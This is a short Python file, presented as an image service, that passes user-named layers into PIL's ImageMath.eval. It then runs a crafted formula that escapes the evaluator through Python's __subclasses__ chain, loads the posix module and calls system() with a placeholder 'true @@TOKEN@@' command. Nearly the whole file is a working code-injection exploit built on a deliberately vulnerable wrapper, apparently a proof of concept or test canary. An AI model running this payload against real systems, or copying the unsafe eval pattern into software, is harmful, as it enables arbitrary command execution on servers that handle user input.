"""An image service that lets users name their layers. Everything of PIL is imported late, by name."""

import importlib


def layers(names):
    return {name: 1 for name in names}


def compute(formula, names):
    math = importlib.import_module("PIL.ImageMath")
    evaluate = getattr(math, "eval")
    return evaluate(formula, layers(names))


WAY = ["__class__", "__base__", "__subclasses__", "__name__", "load_module", "system"]
FORMULA = (
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'BuiltinImporter'][0]"
    ".load_module('posix').system('true @@TOKEN@@')"
)
print(compute(FORMULA, WAY))
